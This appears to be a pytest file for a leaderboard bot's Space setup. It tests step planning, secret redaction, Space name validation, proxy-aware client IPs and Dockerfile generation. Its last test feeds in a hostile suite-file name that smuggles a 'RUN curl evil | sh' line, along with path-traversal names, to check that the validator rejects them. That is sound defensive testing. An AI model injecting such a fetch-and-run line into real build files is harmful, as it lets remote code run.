"""How the setup decides which steps the bot's Space still needs."""

from __future__ import annotations

import asyncio
import re
from dataclasses import replace
from pathlib import Path

import httpx2
import pytest
from fastapi import FastAPI, Request

from bot.core.settings import BotSettings
from bot.processes.web_app import server_config
from bot.web.incoming import client_of
from hub.spaces import SpaceMachine, SpaceVolume
from leaderboard import __version__
from leaderboard.boards import parse_board
from steward.bot_space.deciding import decide_steps, suite_file_problems
from steward.bot_space.facts import SetupFacts, SpaceFacts
from steward.bot_space.wanted import QUEUE_FOLDER, WantedSpace, bucket_for, expected_host, is_space_id, space_files

WANTED = WantedSpace("lab/bot", {"a": b"1"}, {"V": "1"}, {"S": "x"}, hardware="t4-small", storage="lab/b", sleep=600)
LAB = parse_board(
    "name: lab\ntitle: L\nsuite: starter\n"
    "repos: {requests: l/r, results: l/s, logs: l/o, community: l/c, details_namespace: d}\n"
)
MOUNTED = SpaceVolume.bucket("lab/b", QUEUE_FOLDER)
THERE = SpaceFacts(
    "https://lab-bot.hf.space",
    exists=True,
    secrets=frozenset({"S"}),
    variables={"V": "1"},
    machine=SpaceMachine("RUNNING", "t4-small", "", 600, (MOUNTED,)),
)


@pytest.mark.parametrize(
    ("there", "wanted", "steps"),
    [
        (THERE, WANTED, []),
        (SpaceFacts("x", stale=frozenset("a")), WANTED,
         ["create", "secret", "variable", "hardware", "bucket", "volume", "files"]),
        (replace(THERE, machine=SpaceMachine("RUNNING", "t4-small", "small", 600)), WANTED, []),
        (replace(THERE, variables={"V": "2"}), WANTED, ["variable"]),
        (replace(THERE, stale=frozenset("a")), replace(WANTED, new_secret=True), ["files", "secret"]),
        (THERE, replace(WANTED, sleep=900), ["hardware"]),
        (THERE, replace(WANTED, hardware="", storage="", sleep=None), []),
        (replace(THERE, machine=SpaceMachine("RUNNING", "", "", None)),
         replace(WANTED, hardware="cpu-basic", storage="", sleep=None), []),
    ],
)  # fmt: skip
def test_only_what_differs_is_a_step(there: SpaceFacts, wanted: WantedSpace, steps: list[str]) -> None:
    """Only what differs becomes a step; replaced secrets, which cannot be undone, come last."""
    assert [step.kind for step in decide_steps(facts(there), wanted)] == steps


def facts(space: SpaceFacts, *, bucket_exists: bool = False) -> SetupFacts:
    """The facts about the setup, with this Space."""
    return SetupFacts("bot", space, True, True, True, frozenset(), bucket_exists=bucket_exists)


def test_a_bucket_that_exists_is_only_mounted() -> None:
    """An existing bucket is only mounted, and other volumes do not count; former sizes mean the Space's own bucket."""
    other = SpaceVolume("dataset", "lab/b", QUEUE_FOLDER, {})
    space = replace(THERE, machine=SpaceMachine("RUNNING", "t4-small", "", 600, (other,)))
    assert [step.kind for step in decide_steps(facts(space, bucket_exists=True), WANTED)] == ["volume"]
    assert [bucket_for(word, "lab/bot") for word in ("small", "large", "lab/x", "")] == [
        *("lab/bot-data", "lab/bot-data", "lab/x", "")
    ]


def test_no_secret_is_shown_with_a_record() -> None:
    """The `repr` of a wanted Space and of its steps shows no secret."""
    wanted = replace(WANTED, secrets={"S": "hf_hidden"})
    assert "hf_hidden" not in repr(wanted) + repr(decide_steps(facts(SpaceFacts("x")), wanted))


@pytest.mark.parametrize(
    ("name", "host"), [("Lab/My_Bot.2", "https://lab-my-bot-2.hf.space"), ("a/b", "https://a-b.hf.space")]
)
def test_the_address_follows_from_the_name(name: str, host: str) -> None:
    """A Space's expected address is derived from its name as on the Hub, and invalid names are recognised."""
    assert is_space_id(name) and expected_host(name) == host
    assert not any(map(is_space_id, ("bot", "a/b/c", "a/-b", "a/b--c", "a/b.git", "a b/c", "a/b.")))


@pytest.mark.parametrize(
    ("peer", "forwarded", "client"),
    [
        ("10.16.3.80", "203.0.113.7", "203.0.113.7"),
        ("10.16.3.80", "198.51.100.1, 203.0.113.7", "203.0.113.7"),
        ("10.16.3.80", "10.0.0.1, 198.51.100.1, 203.0.113.7, 10.0.4.9", "203.0.113.7"),
        ("10.16.3.80", "", "10.16.3.80"),
        ("203.0.113.9", "198.51.100.1", "203.0.113.9"),
    ],
)
def test_visitors_of_a_space_are_told_apart(
    peer: str, forwarded: str, client: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Visitors are identified by the address that the Hub's proxies add, not by one that a visitor claims."""
    (networks,) = re.findall(r"FORWARDED_ALLOW_IPS=(\S+)", space_files(LAB, "", "", None)["Dockerfile"].decode())
    monkeypatch.setenv("FORWARDED_ALLOW_IPS", networks)
    seen: list[str] = []
    app = FastAPI()

    @app.get("/")
    async def root(request: Request) -> None:
        seen.append(client_of(request))

    async def visit() -> None:
        config = server_config(app, BotSettings())
        config.load()
        transport = httpx2.ASGITransport(config.loaded_app, client=(peer, 1))
        async with httpx2.AsyncClient(transport=transport, base_url="http://space") as visitor:
            await visitor.get("/", headers={"x-forwarded-for": forwarded} if forwarded else {})

    asyncio.run(visit())
    assert seen == [client]


def test_without_a_wheel_the_image_installs_this_version_from_the_index(tmp_path: Path) -> None:
    """Without a wheel, the image installs this release from the index; with one, it installs the wheel in the Space."""
    files = space_files(LAB, "board", "", None)
    assert set(files) == {"README.md", "Dockerfile", "board.yaml"}
    assert f"pip install --no-cache-dir 'steward-leaderboard[contents]=={__version__}'" in files["Dockerfile"].decode()
    wheel = tmp_path / "steward_leaderboard-9-py3-none-any.whl"
    wheel.write_bytes(b"wheel")
    files = space_files(LAB, "board", "", wheel)
    assert files[wheel.name] == b"wheel"
    assert f"'/tmp/{wheel.name}[contents]'\nCOPY board.yaml" in files["Dockerfile"].decode()


@pytest.mark.parametrize(
    ("path", "codes"),
    [
        ("suite.yaml", []),
        ("suites/next_2.yaml", []),
        ("/etc/suite.yaml", ["suite-file"]),
        ("../suite.yaml", ["suite-file"]),
        ("my suite.yaml", ["suite-name"]),
        ("a.yaml /\nRUN curl evil | sh\n#.yaml", ["suite-name"]),
        ("$HOME.yaml", ["suite-name"]),
        ("suite.yaml\n", ["suite-name"]),
    ],
)
def test_the_name_of_a_suite_file_adds_no_line_to_the_image(path: str, codes: list[str]) -> None:
    """A suite file whose name could add code to the Dockerfile, or is outside the folder, is refused."""
    assert [problem.code for problem in suite_file_problems(path)] == codes
